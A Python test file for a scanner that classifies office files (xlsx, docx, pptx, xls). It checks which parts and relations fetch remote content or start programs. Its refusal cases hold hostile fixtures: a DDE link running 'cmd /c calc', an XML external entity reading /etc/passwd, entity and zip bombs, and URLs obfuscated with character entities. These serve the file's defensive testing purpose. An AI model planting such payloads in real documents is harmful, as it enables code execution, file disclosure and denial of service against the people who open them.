# ruff: noqa: E501 - whole parts
"""What office files fetch, by lists of parts and relations: connections, queries, add-ins, menus, formulas (E-FILE)."""

from __future__ import annotations

import base64
import io
import struct
import zipfile

import pytest

from documents.inspection import TYPES
from documents.inspection.refusals import BOMB, BROKEN, MACROS, PROGRAMS, REMOTE

from . import material as m
from .inspecting import verdict
from .recipes.office import bof, cfb, docx
from .test_siblings_office import OFFICE, related

pytestmark = pytest.mark.req("SJ-140")
SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
MICROSOFT = "http://schemas.microsoft.com/office/2011/relationships/"


def book(inside: str) -> bytes:
    """A workbook with connections."""
    return m.ooxml(
        "xlsx", xl__connections_dot_xml=f'<connections xmlns="{SHEETS}">{inside}</connections>'.encode()
    )


def provider(text: str, **more: str) -> bytes:
    given = "".join(f' {key}="{value}"' for key, value in more.items())
    return book(
        f'<connection id="1" name="a" type="5"{given}><dbPr connection="{text}" command="select"/></connection>'
    )


def sheet(formula: str) -> bytes:
    cell = (
        f'<worksheet xmlns="{SHEETS}"><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>'
    )
    return m.ooxml("xlsx", xl__worksheets__sheet1_dot_xml=cell.encode())


def inner(kind: str, maker: str = OFFICE) -> bytes:
    """A relation to a part of the file itself."""
    return docx(rels=f'<Relationship Id="rId7" Type="{maker}{kind}" Target="bagian.xml"/>')


def mashup(formula: str) -> bytes:
    """A query of Power Query as Excel keeps it."""
    return queries(packed("Formulas/Section1.m", f"section Section1;\nshared Kueri = {formula};".encode()))


def packed(
    name: str, content: bytes = b"", *, method: int = zipfile.ZIP_DEFLATED, deflated: bytes = b""
) -> bytes:
    """A zip archive of one entry; deflated: what stands in the place of its packed data."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED if deflated else method) as archive:
        archive.writestr(name, deflated or content)
    whole = bytearray(file.getvalue())
    if deflated:
        for at in (8, whole.index(b"PK\x01\x02") + 10):  # the method, beside the data and in the directory
            whole[at : at + 2] = struct.pack("<H", zipfile.ZIP_DEFLATED)
    return bytes(whole)


def queries(archive: bytes) -> bytes:
    """A book with these queries."""
    whole = struct.pack("<II", 0, len(archive)) + archive + b"\0" * 8
    text = base64.b64encode(whole).decode()
    part = f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{text}</DataMashup>'
    return m.ooxml("xlsx", customXml__item1_dot_xml=part.encode("utf-16"))


def menu(attributes: str) -> bytes:
    part = f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" {attributes}><ribbon/></customUI>'
    return m.ooxml("xlsx", customUI__customUI_dot_xml=part.encode())


def drawing(macro: str) -> bytes:
    return m.ooxml("xlsx", xl__drawings__drawing1_dot_xml=f'<xdr:sp xmlns:xdr="x" macro="{macro}"/>'.encode())


def letter(inside: str) -> bytes:
    part = f'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge>{inside}</w:mailMerge></w:settings>'
    return docx([("word/settings.xml", part.encode())])


ACE = "Provider=Microsoft.ACE.OLEDB.12.0;Data Source={};Extended Properties=x"


@pytest.mark.parametrize(
    ("content", "extension"),
    [
        (book('<connection id="1" keepAlive="1" name="ThisWorkbookDataModel" type="5"><dbPr connection="Data Model Connection" command="Model"/></connection>'), "xlsx"),
        (book('<connection id="2" name="a" type="102"><dbPr connection="WORKSHEET;C:\\a\\b.xlsx" command="b.xlsx!T1"/></connection>'), "xlsx"),
        (book('<connection id="3" name="a" type="6"><textPr sourceFile="C:\\data\\pelamar.csv"/></connection>'), "xlsx"),
        (provider(ACE.format("C:\\data\\pelamar.accdb")), "xlsx"),
        (provider("Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Kueri"), "xlsx"),
        (mashup('Csv.Document(File.Contents("C:\\data\\pelamar.csv"), [Delimiter=","])'), "xlsx"),
        (mashup('Table.TransformColumnTypes(Excel.CurrentWorkbook(){[Name="Tabel1"]}[Content], {{"NIP", type text}})'), "xlsx"),
        (menu(""), "xlsx"),
        (drawing("[0]!Tombol1_Klik"), "xlsx"),
        (sheet("SUM(A1:A3)&amp;SUBCALL(1)"), "xlsx"),
        (letter('<w:connectString w:val="' + ACE.format("C:\\data\\pelamar.xlsx") + '"/>'), "docx"),
        (inner("styles"), "docx"),
        (inner("commentsExtended", MICROSOFT), "docx"),
        (inner("downRev", "http://schemas.microsoft.com/office/2006/relationships/"), "docx"),
        (inner("metadata/core-properties", "http://schemas.openxmlformats.org/package/2006/relationships/"), "docx"),
        (inner("cellImage", "http://www.wps.cn/officeDocument/2020/"), "docx"),
        (inner("presentationmetadata", "http://customooxmlschemas.google.com/relationships/"), "docx"),
        (related("externalLinkPath", "https://contoh.sharepoint.com/a.xlsx"), "docx"),
        (related("hyperlink", "file:///C:\\data\\lampiran.docx"), "docx"),
        (related("hyperlink", "\\\\berkas\\umum\\lampiran.pdf"), "docx"),
        (related("mailMergeSource", "file:///C:\\data\\pelamar.xlsx"), "docx"),
        (related("hyperlink", "www.contoh.go.id:8080/a"), "docx"),
    ],
)  # fmt: skip
def test_ordinary_ones(content, extension):
    assert verdict(content, extension) == TYPES[extension]


@pytest.mark.parametrize(
    ("content", "extension", "reason"),
    [
        (book('<connection id="1" type="4" name="a"><webPr url="http://contoh.invalid/a.htm"/></connection>'), "xlsx", REMOTE),
        (book('<x:connection xmlns:x="y" id="1" type="4" name="a"><x:webPr url="&#104;ttp://contoh.invalid"/></x:connection>'), "xlsx", REMOTE),
        (provider("Provider=SQLOLEDB;Data Source=10.0.0.1;Initial Catalog=a"), "xlsx", REMOTE),
        (provider("DRIVER={SQL Server};SERVER=contoh.invalid"), "xlsx", REMOTE),
        (provider("ODBC;DSN=a"), "xlsx", REMOTE),
        (provider(ACE.format("\\\\contoh.invalid\\a.accdb")), "xlsx", REMOTE),
        (provider(ACE.format("C:\\a.accdb"), refreshOnLoad="1"), "xlsx", REMOTE),
        (provider("Data Model Connection", odcFile="http://contoh.invalid/a.odc"), "xlsx", REMOTE),
        (book('<connection id="3" name="a" type="6"><textPr sourceFile="\\\\contoh.invalid\\a.csv"/></connection>'), "xlsx", REMOTE),
        (mashup('Web.Contents("https://contoh.invalid/a")'), "xlsx", REMOTE),
        (mashup('Sql.Database("server", "a")'), "xlsx", REMOTE),
        (mashup('Excel.Workbook(File.Contents("\\\\contoh.invalid\\a.xlsx"))'), "xlsx", REMOTE),
        (mashup('Expression.Evaluate("1", #shared)'), "xlsx", REMOTE),
        (m.ooxml("xlsx", customXml__item1_dot_xml=b'<DataMashup xmlns="a">bukan arsip</DataMashup>'), "xlsx", BROKEN),
        (queries(packed("a.m", deflated=b"\xff" * 40)), "xlsx", BROKEN),
        (queries(packed("a.m", b"a", method=zipfile.ZIP_LZMA)), "xlsx", BROKEN),
        (queries(packed("a.m", b" " * 5_000_000)), "xlsx", BOMB),
        (m.ooxml("xlsx", xl__queryTables__queryTable1_dot_xml=b'<queryTable xmlns="a" refreshOnLoad="1" connectionId="1"/>'), "xlsx", REMOTE),
        (m.ooxml("xlsx", xl__volatileDependencies_dot_xml=b'<volTypes xmlns="a"><volType type="realTimeData"/></volTypes>'), "xlsx", REMOTE),
        (m.ooxml("xlsx", xl__webextensions__webextension1_dot_xml=b'<we:webextension xmlns:we="a"/>'), "xlsx", REMOTE),
        (sheet('_xlfn.WEBSERVICE("http://contoh.invalid/"&amp;A1)'), "xlsx", REMOTE),
        (sheet('RTD("jahat.server",,"a")'), "xlsx", REMOTE),
        (sheet('REGISTER.ID("a.dll","f")'), "xlsx", REMOTE),
        (sheet('WEB&#83;ERVICE("http://contoh.invalid/")'), "xlsx", REMOTE),
        (m.ooxml("xlsx", xl__externalLinks__externalLink1_dot_xml=b'<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'), "xlsx", REMOTE),
        (menu('onLoad="\\\\contoh.invalid\\a.xlam!mulai"'), "xlsx", PROGRAMS),
        (menu('loadImage="gambar"'), "xlsx", PROGRAMS),
        (drawing("'\\\\contoh.invalid\\a.xlsm'!m"), "xlsx", PROGRAMS),
        (drawing("lain.xlam!m"), "xlsx", PROGRAMS),
        (letter('<w:connectString w:val="Provider=SQLOLEDB;Data Source=contoh.invalid"/>'), "docx", REMOTE),
        (m.ooxml("xlsx", xl__activeX__activeX1_dot_xml=b'<ax:ocx xmlns:ax="a" ax:classid="{EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B}"/>'), "xlsx", PROGRAMS),
        (inner("xlMacrosheet", "http://schemas.microsoft.com/office/2006/relationships/"), "docx", PROGRAMS),
        (inner("vbaProject", "http://schemas.microsoft.com/office/2006/relationships/"), "docx", PROGRAMS),
        (inner("jenisBaru", MICROSOFT), "docx", PROGRAMS),
        (inner("jenisBaru", "http://purl.oclc.org/ooxml/officeDocument/relationships/"), "docx", PROGRAMS),
        (related("jenisBaru", "C:\\a.docx"), "docx", REMOTE),
        (related("attachedTemplate", "file://contoh"), "docx", REMOTE),
        (related("attachedTemplate", "&#104;ttp://contoh.invalid/a.dotm"), "docx", REMOTE),
        (related("hyperlink", "\\\\contoh.invalid\\a.docx"), "docx", REMOTE),
        (related("hyperlink", "file:///C:\\a\\b.exe"), "docx", REMOTE),
        (related("externalLinkPath", "file://contoh.invalid/a.xlsx"), "docx", REMOTE),
        (related("externalLinkPath", "mhtml:http://contoh.invalid/a"), "docx", REMOTE),
        (m.ooxml("pptx", ppt__slides__slide1_dot_xml=b'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="&#112;paction://program"/></p:sld>'), "pptx", PROGRAMS),
        (m.ooxml("xlsx", types=m.content_types("xlsx", "application/vnd.ms-excel.intlmacrosheet+xml")), "xlsx", MACROS),
    ],
)  # fmt: skip
def test_what_asks_a_server_or_starts_something(content, extension, reason):
    assert verdict(content, extension) == reason


BOMB = (
    '<?xml version="1.0"{}?><!DOCTYPE l [<!ENTITY a "{}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
)
OUTSIDE = '<?xml version="1.0"{}?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'


@pytest.mark.parametrize("text", [BOMB.replace("{}", "", 1).format("x" * 50), OUTSIDE.format("")])
@pytest.mark.parametrize("code", ["utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_entities_in_any_encoding(text, code):
    """A type of one's own is none of an office program: refused, whatever it is written in."""
    assert verdict(m.ooxml("xlsx", xl__a_dot_xml=text.encode(code)), "xlsx") == PROGRAMS


@pytest.mark.parametrize("code", ["utf-7", "cp037", "utf-32"])
def test_encodings_that_hide_the_names(code):
    text = OUTSIDE.format(f' encoding="{code}"')
    assert verdict(m.ooxml("xlsx", xl__a_dot_xml=text.encode(code)), "xlsx") in (BROKEN, PROGRAMS)


def test_queries_of_older_books():
    """[MS-XLS] DbOrParamQry and DConn, in the sheet that follows the list of sheets."""

    def with_record(number):
        return cfb({"Workbook": bof + bof[:-4] + struct.pack("<HHHH", number, 4, 0, 0) + bof[-4:]})

    assert [verdict(with_record(number), "xls") for number in (0x00DC, 0x0876)] == [REMOTE] * 2
    assert verdict(with_record(0x0208), "xls") == TYPES["xls"]
